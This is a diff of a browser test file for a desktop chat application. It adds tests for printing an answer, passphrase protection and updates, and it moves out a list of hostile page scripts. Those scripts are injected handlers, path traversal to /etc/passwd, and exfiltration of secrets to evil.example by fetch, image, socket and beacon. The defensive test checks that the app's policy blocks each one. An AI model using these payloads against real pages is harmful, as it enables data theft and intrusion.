@@ -8,6 +8,7 @@ import { faults, launch } from '../browser/browser.ts'
 import { drop } from '../browser/drop.ts'
 import { clubManual } from '../browser/manuals.ts'
 import { chromiumPath } from '../chromium.ts'
+import { attempts, demands } from './hostile.ts'
 import { type StartedDesktop, startDesktop } from './start-desktop.ts'
 import { type OpenedWindow, openWindow } from './window.ts'
 
@@ -51,6 +52,41 @@ describe.skipIf(!chromiumPath)(`the window of the desktop${why}`, () => {
     await page.locator('blockquote', { hasText: manual.sentence }).waitFor()
     await page.locator('[data-citation="1"]').click()
     await page.locator(`[data-rendered="${manual.page}"]`).waitFor()
+  })
+
+  it('prints one answer with its question and its sources, and nothing beside it', async () => {
+    const { page, called, router, id } = window
+    await ask(manual.question)
+    const turns = page.locator('article')
+    await expect.poll(() => turns.locator('blockquote', { hasText: manual.sentence }).count()).toBe(2)
+    let printed = 0
+    window.printing = async () => {
+      await page.emulateMedia({ media: 'print', colorScheme: 'dark' })
+      // The other turn, the document that is open, the way to other pages, what is there to be pressed.
+      const [first, second] = [turns.nth(0), turns.nth(1)]
+      expect(await first.locator('blockquote', { hasText: manual.sentence }).isVisible()).toBe(true)
+      expect(await first.getByText(`${manual.file},`).last().isVisible()).toBe(true)
+      for (const other of [
+        second,
+        page.locator('[data-main-field]'),
+        page.locator(`[data-rendered="${manual.page}"]`),
+        page.getByText(de.nav.library).first(),
+        page.getByText(de.chat.print).first(),
+      ])
+        expect(await other.isVisible()).toBe(false)
+      const look = await first.evaluate(element => {
+        const { color } = getComputedStyle(element)
+        return { color, ground: getComputedStyle(document.body).backgroundColor }
+      })
+      expect(look).toEqual({ color: 'rgb(0, 0, 0)', ground: 'rgb(255, 255, 255)' })
+      printed += 1
+    }
+    await turns.nth(0).getByRole('button', { name: de.chat.print }).click()
+    await expect.poll(() => printed).toBe(1)
+    expect(called).toContain('print')
+    await expect.poll(() => page.locator('[data-print]').count()).toBe(0)
+    await page.emulateMedia({ media: null, colorScheme: 'light' })
+    router.tell(id, { type: 'go', hash: '#/' })
   })
 
   it('takes what the system hands over, and goes where a link into it leads', async () => {
@@ -108,6 +144,80 @@ describe.skipIf(!chromiumPath)(`the window of the desktop${why}`, () => {
     expect(await faults(page)).toEqual([])
   })
 
+  it('asks for the passphrase of the key, and speaks of it where there is something to say', async () => {
+    const { page, router, id } = window
+    router.tell(id, { type: 'go', hash: '#/settings?part=key' })
+    const part = page.locator('div', { has: page.locator('> #part-key') })
+    await part.getByText(de.desktop.key.none).waitFor()
+    await part.getByRole('button', { name: de.desktop.key.protect }).click()
+    const [first, second] = [
+      part.getByLabel(de.desktop.key.passphrase1, { exact: true }),
+      part.getByLabel(de.desktop.key.passphrase2),
+    ]
+    expect(await first.getAttribute('type')).toBe('password')
+    const send = async (one: string, other: string) => {
+      await first.fill(one)
+      await second.fill(other)
+      await part.getByRole('button', { name: de.desktop.key.protect }).click()
+    }
+    await send('neun alte Kamele', 'neun alte Kühe')
+    await part.getByText(de.desktop.key.differs).waitFor()
+    await send('kurz', 'kurz')
+    await part.getByText(de.error['passphrase-short'].split('{{')[0] ?? '').waitFor()
+    expect(await faults(page)).toEqual([])
+    await send('neun alte Kamele', 'neun alte Kamele')
+    await part.getByText(de.desktop.key.passphrase, { exact: true }).waitFor()
+
+    // At the next start.
+    const again = await openWindow(browser, desktop)
+    const notice = again.page.getByRole('status').filter({ hasText: de.desktop.key.locked })
+    await notice.getByRole('link', { name: de.desktop.key.enter }).click()
+    const locked = again.page.locator('div', { has: again.page.locator('> #part-key') })
+    await locked.getByText(de.desktop.key.lockedDetail).waitFor()
+    await expect.poll(() => again.page.evaluate(() => document.activeElement?.id)).toBe('part-key')
+    expect(await faults(again.page)).toEqual([])
+    const unlock = async (passphrase: string) => {
+      await locked.getByLabel(de.desktop.key.passphrase1, { exact: true }).fill(passphrase)
+      await locked.getByRole('button', { name: de.desktop.key.unlock }).click()
+    }
+    await unlock('neun alte Kühe')
+    await locked.getByText(de.error['passphrase-wrong']).waitFor()
+    await unlock('neun alte Kamele')
+    await locked.getByText(de.desktop.key.passphrase, { exact: true }).waitFor()
+    await notice.waitFor({ state: 'detached' })
+    expect(again.complaints).toEqual([])
+    await again.close()
+  })
+
+  it('goes back to the version before, and takes models over from a folder, where somebody says so', async () => {
+    const { page, called, router, id } = window
+    router.tell(id, { type: 'go', hash: '#/settings?part=updates' })
+    const filled = (text: string, version: string) => text.replace('{{version}}', version)
+    await page.getByRole('button', { name: filled(de.desktop.updates.back, '0.0.9') }).click()
+    await page.getByRole('dialog').getByText(de.desktop.updates.backLead).waitFor()
+    await page.getByRole('button', { name: de.desktop.updates.backGo }).click()
+    await expect.poll(() => called).toContain('chooseUpdate back')
+    const ready = { name: 'ready' as const, version: '1.2.0', notes: '', back: false }
+    router.tell(id, { type: 'updates', updates: { ...ready, waiting: true } })
+    await page.getByText(filled(de.desktop.updates.waiting, '1.2.0')).waitFor()
+    router.tell(id, { type: 'updates', updates: { name: 'none' } })
+    await page.getByText(de.desktop.updates.none).waitFor()
+    expect(await page.getByRole('button', { name: de.desktop.updates.check }).count()).toBe(0)
+
+    router.tell(id, { type: 'go', hash: '#/models' })
+    await page.getByRole('button', { name: de.models.add }).first().click()
+    await page.getByRole('menuitem', { name: de.models.addFolder }).click()
+    await expect.poll(() => called).toContain('takeModels')
+    router.tell(id, { type: 'taking', taking: { file: 'chat.gguf', part: 0.42 } })
+    const progress = page.getByRole('status').filter({ hasText: 'chat.gguf' })
+    await expect.poll(() => progress.innerText()).toContain('42 %')
+    expect(await faults(page)).toEqual([])
+    await page.getByRole('button', { name: de.upload.stop }).click()
+    await expect.poll(() => called).toContain('stopTakingModels')
+    router.tell(id, { type: 'taking', taking: null })
+    await progress.waitFor({ state: 'detached' })
+  })
+
   it('has a small window, for a question and its answer', async () => {
     const quick = await openWindow(browser, desktop, { quick: true })
     const { page, called, complaints } = quick
@@ -156,65 +266,6 @@ describe.skipIf(!chromiumPath)(`the window of the desktop${why}`, () => {
     expect(complaints).toEqual([])
   })
 })
-
-const evil = 'http://evil.example/'
-
-/** What a page may try whose words have been put there by somebody else; and who stands in its way: our guard, our policy, or Chromium itself. */
-const attempts: readonly [name: string, script: string, by: string | RegExp][] = [
-  ['a script as an address', `location.href = 'javascript:void(document.title = "evil")'`, /^policy script-src/],
-  ['a page as an address', `location.href = 'data:text/html,<h1>evil'`, /^Not allowed to navigate/],
-  ['a file', `location.href = 'file:///etc/passwd'`, /^Not allowed to load/],
-  ['another site', `location.href = '${evil}'`, 'navigation'],
-  ['another site, instead of this one', `location.replace('https://evil.example/')`, 'navigation'],
-  [
-    'a page of its own making',
-    `location.href = URL.createObjectURL(new Blob(['<h1>evil'], { type: 'text/html' }))`,
-    'navigation',
-  ],
-  ['another host of the scheme', `location.href = 'app://other/'`, 'navigation'],
-  ['a file of the bundle', `location.href = '/icon.svg'`, 'navigation'],
-  ['a path out of the bundle', `location.href = '/../../etc/passwd'`, 'navigation'],
-  ['such a path in disguise', `location.href = '/..%2f..%2fetc%2fpasswd'`, 'navigation'],
-  ['a program of the system', `location.href = 'ms-msdt:/id'`, 'navigation'],
-  ['another window', `open('${evil}')`, /refused a window.*http:/],
-  ['an empty window', `open('about:blank')`, /refused a window.*about:/],
-  ['a link into another window', click(`<a target=_blank href="file:///etc/passwd">a</a>`), /refused a window.*file:/],
-  ['a link that runs a script', click(`<a href="javascript:document.title='evil'">a</a>`), /^policy script-src/],
-  [
-    'a form that is sent elsewhere',
-    `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="${evil}"><input name=a value=secret></form>'); f.submit()`,
-    /^policy form-action|^navigation/,
-  ],
-  [
-    'a page that sends itself elsewhere',
-    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${evil}'; document.head.append(meta)`,
-    'navigation',
-  ],
-  ['another base', click(`<base href="${evil}"><a href="a">a</a>`), /^policy base-uri/],
-  ['a frame', insert(`<iframe src="${evil}"></iframe>`), /^policy frame-src/],
-  ['a plug-in', insert(`<object data="${evil}"></object>`), /^policy object-src/],
-  ['a script within the page', insertScript(`document.title = 'evil'`), /^policy script-src/],
-  ['a handler within the page', insert(`<img src=x onerror="document.title='evil'">`), /^policy script-src-attr/],
-  ['a script that is text', `setTimeout("document.title = 'evil'")`, /^policy script-src/],
-  ['what it read, by a request', `fetch('${evil}?secret').catch(() => {})`, /^policy connect-src/],
-  ['what it read, by a picture', insert(`<img src="${evil}?secret">`), /^policy img-src/],
-  ['what it read, by a socket', `try { new WebSocket('ws://evil.example/') } catch {}`, /^policy connect-src/],
-  ['what it read, by a beacon', `navigator.sendBeacon('${evil}', 'secret')`, /^policy connect-src/],
-]
-
-/** Each is rejected, or answers what stands here. */
-const demands: readonly [name: string, script: string][] = [
-  ['the camera', 'navigator.mediaDevices.getUserMedia({ video: true })'],
-  ['the microphone', 'navigator.mediaDevices.getUserMedia({ audio: true })'],
-  ['the place', 'new Promise((found, refused) => navigator.geolocation.getCurrentPosition(found, refused))'],
-  [
-    'notifications',
-    `Notification.requestPermission().then(given => given === 'granted' || Promise.reject(new Error(given)))`,
-  ],
-  ['instruments', 'navigator.requestMIDIAccess({ sysex: true })'],
-  ['what is on the clipboard', 'navigator.clipboard.readText()'],
-  ['a file of the system', 'showOpenFilePicker()'],
-]
 
 describe.skipIf(!chromiumPath)(`a page that has turned against its user${why}`, () => {
   let browser: Browser
@@ -278,15 +329,3 @@ describe.skipIf(!chromiumPath)(`a page that has turned against its user${why}`, 
     expect(statuses).toEqual([404, 404, 404, 404, 404, 404])
   })
 })
-
-function insert(html: string): string {
-  return `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`
-}
-
-function insertScript(text: string): string {
-  return `const made = document.createElement('script'); made.textContent = ${JSON.stringify(text)}; document.body.append(made)`
-}
-
-function click(html: string): string {
-  return `const place = document.createElement('div'); place.innerHTML = ${JSON.stringify(html)}; document.body.append(place); place.querySelector('a').click()`
-}
